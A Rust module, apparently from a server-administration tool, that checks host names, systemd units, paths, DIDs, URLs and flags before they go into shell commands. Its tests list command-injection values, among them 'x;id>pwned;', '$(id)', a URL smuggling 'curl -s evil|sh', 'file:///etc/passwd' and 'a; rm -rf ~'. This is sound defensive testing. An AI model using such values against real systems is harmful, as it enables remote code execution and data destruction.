//! Names that may stand in a line to paste: each has its grammar, and what does not fit it is no name.
//!
//! All of these come from elsewhere: a document of the PDS, a control group that another user made, a saved run of a
//! stranger's. The grammars are of printable ASCII without blanks, quotes and leading hyphens, so that a name ends
//! nothing, begins nothing and looks like nothing else, whatever it is written into.

use std::{fmt, net::IpAddr};

use url::{Host, Url as Parsed};

/// What has passed its grammar.
pub trait Name: fmt::Display {}

macro_rules! names {
    ($($(#[$doc:meta])* $name:ident($check:ident);)*) => {$(
        $(#[$doc])*
        #[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
        pub struct $name(String);

        impl $name {
            /// The name, if it is one.
            pub fn new(text: &str) -> Option<Self> {
                $check(text).then(|| Self(text.to_owned()))
            }

            /// As it is written.
            pub fn as_str(&self) -> &str {
                &self.0
            }
        }

        impl fmt::Display for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str(&self.0)
            }
        }

        impl Name for $name {}
    )*};
}

names! {
    /// A host: labels of letters, digits and inner hyphens (RFC 1123, section 2.1; 63 and 253 octets, RFC 1035,
    /// section 2.3.4), among them the A-labels of internationalised names, or an IP address.
    HostName(is_host);
    /// A service of systemd (systemd.unit(5): letters, digits, `:-_.\@`, at most 255 characters).
    UnitName(is_service);
    /// A network interface: what the kernel takes (`dev_valid_name`, net/core/dev.c: shorter than 16 bytes, no `/`,
    /// `:` or blank, not `.` or `..`), and of that letters, digits and `._-@`.
    InterfaceName(is_interface);
    /// A container (moby, daemon/names: `[a-zA-Z0-9][a-zA-Z0-9_.-]`, and of no more than 128 characters).
    ContainerName(is_container);
    /// A file of systemd-networkd, without its folder.
    NetworkFile(is_network_file);
    /// A path from the root, of characters that no format of a configuration takes for its own.
    PlainPath(is_plain_path);
    /// A DID (W3C DID 1.0, section 3.1, and atproto's specification: ASCII, at most 2,048 characters; here 512).
    Did(is_did);
    /// A flag of Node's with or without its value.
    NodeFlag(is_flag);
}

macro_rules! numbers {
    ($($number:ty)*) => {$(impl Name for $number {})*};
}

numbers!(u8 u16 u32 u64 i64 usize IpAddr);

impl HostName {
    /// The name in its A-labels (UTS 46), for what a person typed.
    pub fn from_unicode(text: &str) -> Option<Self> {
        Self::new(text).or_else(|| match Host::parse(text).ok()? {
            Host::Domain(name) => Self::new(&name),
            Host::Ipv4(_) | Host::Ipv6(_) => None,
        })
    }
}

fn is_host(text: &str) -> bool {
    if text.parse::<IpAddr>().is_ok() {
        return true;
    }
    let label = |label: &str| {
        (1..=63).contains(&label.len())
            && !label.starts_with('-')
            && !label.ends_with('-')
            && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
    };
    text.len() <= 253 && text.split('.').all(label)
}

/// Of these characters alone, and not beginning with what a program may take for an option.
fn is_of(text: &str, longest: usize, others: &str) -> bool {
    (1..=longest).contains(&text.len())
        && !text.starts_with('-')
        && text.chars().all(|c| c.is_ascii_alphanumeric() || others.contains(c))
}

fn is_service(text: &str) -> bool {
    is_of(text, 255, r":-_.\@") && text.strip_suffix(".service").is_some_and(|name| !name.is_empty())
}

fn is_interface(text: &str) -> bool {
    is_of(text, 15, "._-@") && !matches!(text, "." | "..")
}

fn is_container(text: &str) -> bool {
    is_of(text, 128, "_.-") && text.starts_with(|c: char| c.is_ascii_alphanumeric())
}

fn is_network_file(text: &str) -> bool {
    is_of(text, 200, "._-@") && text.strip_suffix(".network").is_some_and(|name| !name.is_empty())
}

fn is_plain_path(text: &str) -> bool {
    text.strip_prefix('/').is_some_and(|rest| is_of(rest, 1_024, "/._-@+:"))
}

fn is_did(text: &str) -> bool {
    let Some((method, id)) = text.strip_prefix("did:").and_then(|rest| rest.split_once(':')) else { return false };
    // `%` only before two hexadecimal digits (W3C DID Core, section 3.1).
    let mut encoded = id.split('%').skip(1);
    let is_encoded = encoded.all(|rest| rest.len() >= 2 && rest.bytes().take(2).all(|byte| byte.is_ascii_hexdigit()));
    // 24 characters of base32 (did:plc specification, "Identifier Syntax").
    let is_plc = || id.len() == 24 && id.bytes().all(|byte| matches!(byte, b'a'..=b'z' | b'2'..=b'7'));
    !method.is_empty()
        && method.bytes().all(|byte| byte.is_ascii_lowercase())
        && is_of(id, 512, "._:%-")
        && !id.ends_with(':')
        && is_encoded
        && (method != "plc" || is_plc())
}

fn is_flag(text: &str) -> bool {
    let Some(rest) = text.strip_prefix("--") else { return false };
    let (name, value) = rest.split_once('=').map_or((rest, None), |(name, value)| (name, Some(value)));
    let is_name = name.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-');
    is_name && is_of(name, 100, "-") && value.is_none_or(|value| is_of(value, 200, "._:/,-"))
}

/// An address on the web, parsed and written anew: what it says is what a browser would ask.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Url(String);

/// Longer than any address that a person would paste.
const URL_LIMIT: usize = 2_000;

impl Url {
    /// An https address without a user, as a document gave it.
    pub fn new(text: &str) -> Option<Self> {
        Self::checked(&Parsed::parse(text).ok()?).filter(|url| url.0.starts_with("https://"))
    }

    /// An address at a host of which the name is known.
    pub fn at(scheme: &'static str, host: &str, port: Option<u16>, path: &'static str) -> Option<Self> {
        let name = HostName::new(host)?;
        let name = if host.contains(':') { format!("[{name}]") } else { name.to_string() };
        let port = port.map(|port| format!(":{port}")).unwrap_or_default();
        Self::checked(&Parsed::parse(&format!("{scheme}://{name}{port}{path}")).ok()?)
    }

    fn checked(url: &Parsed) -> Option<Self> {
        let mut url = url.clone();
        url.set_fragment(None);
        // Of a name alone: a user's part shows another host than the one that is asked.
        if !url.username().is_empty() || url.password().is_some() {
            return None;
        }
        let host = match url.host()? {
            Host::Domain(name) => HostName::new(name)?.to_string(),
            Host::Ipv4(addr) => addr.to_string(),
            Host::Ipv6(addr) => format!("[{addr}]"),
        };
        let port = url.port().map(|port| format!(":{port}")).unwrap_or_default();
        let query = url.query().map(|query| format!("?{query}")).unwrap_or_default();
        // curl makes many addresses of one with brackets or braces (curl(1), "URL"); RFC 3986 knows none here.
        let mut rest = String::new();
        for c in format!("{}{query}", url.path()).chars() {
            match c {
                '[' | ']' | '{' | '}' | '|' | '\\' | '^' | '`' | '"' | '<' | '>' | ' ' => {
                    rest.push_str(&format!("%{:02X}", u32::from(c)));
                }
                '!'..='~' => rest.push(c),
                _ => return None,
            }
        }
        let whole = format!("{}://{host}{port}{rest}", url.scheme());
        (whole.len() <= URL_LIMIT).then_some(Self(whole))
    }
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Any other word that came from elsewhere, for a command alone, where it is quoted: printable ASCII that no program
/// takes for an option. What only looks like ASCII, what a terminal obeys and what breaks a line is none.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Foreign(String);

/// Longer than any host, path or address that a person would type again.
const FOREIGN_LIMIT: usize = 1_000;

impl Foreign {
    /// The word, if it may be one.
    pub fn new(text: &str) -> Option<Self> {
        let fits = (1..=FOREIGN_LIMIT).contains(&text.len())
            && !text.starts_with('-')
            && text.chars().all(|c| matches!(c, ' '..='~'));
        fits.then(|| Self(text.to_owned()))
    }
}

impl fmt::Display for Foreign {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &[&str] = &[
        "",
        " ",
        "x;id>pwned;",
        "x;id>pwned;.service",
        "$(id)",
        "`id`",
        "a b",
        "a'b",
        "a\"b",
        "-o/etc/x",
        "--output=x",
        "-x.service",
        "a&b",
        "a|b",
        "a#b",
        "~root",
        "*",
        "{a,b}",
        "a!b",
        "a\nb",
        "a\u{202e}b",
        "a\0b",
        "a\u{fffd}",
        "раypal.example",
        "/etc/../x y",
        "+trace",
        "@8.8.8.8",
    ];

    #[test]
    fn no_name_is_code() {
        for text in HOSTILE {
            assert_eq!(HostName::new(text), None, "{text:?}");
            assert_eq!(UnitName::new(text), None, "{text:?}");
            assert_eq!(UnitName::new(&format!("{text}.service")).filter(|_| *text != "@8.8.8.8"), None, "{text:?}");
            assert_eq!(ContainerName::new(text), None, "{text:?}");
            assert_eq!(InterfaceName::new(text).filter(|_| *text != "@8.8.8.8"), None, "{text:?}");
            assert_eq!(NetworkFile::new(text), None, "{text:?}");
            assert_eq!(PlainPath::new(text), None, "{text:?}");
            assert_eq!(Did::new(&format!("did:plc:{text}")), None, "{text:?}");
            assert_eq!(NodeFlag::new(&format!("--x={text}")).filter(|_| *text != "@8.8.8.8"), None, "{text:?}");
        }
    }

    #[test]
    fn names_are_names() {
        for host in ["pds.example.com", "xn--bcher-kva.example", "localhost", "192.0.2.7", "2001:db8::1", "A.b"] {
            assert!(HostName::new(host).is_some(), "{host}");
        }
        assert!(HostName::new(&"a".repeat(64)).is_none() && HostName::new(&["a"; 128].join(".")).is_none());
        assert!(HostName::new("a..b").is_none() && HostName::new("a_b.c").is_none());
        assert_eq!(HostName::from_unicode("bücher.example").expect("it fits").as_str(), "xn--bcher-kva.example");
        assert!(UnitName::new(r"pds\x2dtwo@a.service").is_some() && UnitName::new("pds.scope").is_none());
        assert!(InterfaceName::new("eth0.100").is_some() && InterfaceName::new("averylongnameof1").is_none());
        assert!(ContainerName::new("pds-1_a.b").is_some());
        assert!(PlainPath::new("/pds/pds.env").is_some() && PlainPath::new("pds.env").is_none());
        assert!(
            Did::new("did:plc:ewvi7nxzyoun6zhxrhs64oiz").is_some() && Did::new("did:web:a.example%3A3000").is_some()
        );
        assert!(NodeFlag::new("--network-family-autoselection-attempt-timeout=5000").is_some());
    }

    #[test]
    fn addresses_are_written_anew() {
        let anew = |text: &str| Url::new(text).map(|url| url.to_string());
        assert_eq!(anew("https://A.example:443/x#y").as_deref(), Some("https://a.example/x"));
        assert_eq!(anew("https://a.example/{a,b}?[1-9]").as_deref(), Some("https://a.example/%7Ba,b%7D?%5B1-9%5D"));
        assert_eq!(anew("https://auth.example;curl -s evil|sh;"), None);
        for text in ["http://a.example/", "-o/etc/x", "file:///etc/passwd", "https://u:p@a.example/", "https://a_b/"] {
            assert_eq!(anew(text), None, "{text}");
        }
        assert_eq!(
            Url::at("http", "2001:db8::1", Some(80), "/").expect("it fits").to_string(),
            "http://[2001:db8::1]/"
        );
        assert_eq!(Url::at("https", "x;id", None, "/"), None);
    }

    #[test]
    fn a_foreign_word_is_seen_as_it_is() {
        assert!(Foreign::new("a; rm -rf ~").is_some());
        for text in ["", "-x", "--save", "a\nb", "a\u{202e}b", "раypal", "a\u{fffd}b", &"a".repeat(1_001)] {
            assert_eq!(Foreign::new(text), None, "{text:?}");
        }
    }
}
